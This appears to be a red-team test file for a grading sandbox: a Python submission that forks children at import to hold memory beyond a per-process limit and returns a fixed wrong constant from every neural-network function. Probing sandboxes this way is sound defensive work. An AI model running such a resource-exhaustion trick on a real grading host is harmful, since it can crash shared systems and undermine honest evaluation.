@@ -1,0 +1,98 @@
+"""Resource abuse: spread memory over processes to get past a per-process limit.
+
+Attack: at import the module forks 4 children; each allocates and touches 400
+MiB (well under a 1 GiB per-process address-space limit) and holds it. Once
+all report in, the parent prints ``HELD <bytes>``: the memory the sandbox held
+at once. With 256 processes allowed, the same trick holds about 100 GiB, enough
+to push a grading host into the OOM killer. Functions return a wrong constant
+(12345.678).
+
+Success would look like: ``HELD`` larger than the assignment's memory limit
+(the sandbox's memory is not bounded as a whole), or any points.
+Backends: bwrap
+Unisolated: not promised; the subprocess backend limits only each process's address space
+"""
+
+import os
+import time
+
+import numpy as np
+
+W = 12345.678
+CHILDREN = 4
+BLOCK = 400 * 2**20
+
+ready_r, ready_w = os.pipe()
+kids = []
+for _ in range(CHILDREN):
+    pid = os.fork()
+    if pid == 0:
+        try:
+            block = np.ones(BLOCK // 8)  # touched: resident, not just reserved
+            os.write(ready_w, b"1")
+            time.sleep(5)
+        finally:
+            os._exit(0)
+    kids.append(pid)
+os.close(ready_w)
+held, deadline = 0, time.monotonic() + 8
+while held < CHILDREN * BLOCK and time.monotonic() < deadline:
+    data = os.read(ready_r, 1)
+    if not data:
+        break
+    held += BLOCK
+print(f"HELD {held}")
+for pid in kids:
+    try:
+        os.kill(pid, 9)
+        os.waitpid(pid, 0)
+    except OSError:
+        pass
+
+
+def _w(shape):
+    return np.full(shape, W)
+
+
+def sigmoid(z):
+    return _w(np.shape(z))
+
+
+def sigmoid_grad(z):
+    return _w(np.shape(z))
+
+
+def tanh(z):
+    return _w(np.shape(z))
+
+
+def tanh_grad(z):
+    return _w(np.shape(z))
+
+
+def relu(z):
+    return _w(np.shape(z))
+
+
+def relu_grad(z):
+    return _w(np.shape(z))
+
+
+def leaky_relu(z, alpha=0.01):
+    return _w(np.shape(z))
+
+
+def leaky_relu_grad(z, alpha=0.01):
+    return _w(np.shape(z))
+
+
+def neuron(x, w, b, activation="sigmoid"):
+    return _w(np.shape(x)[:-1])
+
+
+def affine_forward(x, w, b):
+    return _w((np.shape(x)[0], np.shape(w)[1])), None
+
+
+def mlp_forward(x, params, activation="relu"):
+    return _w((np.shape(x)[0], np.shape(params[-1][0])[1]))
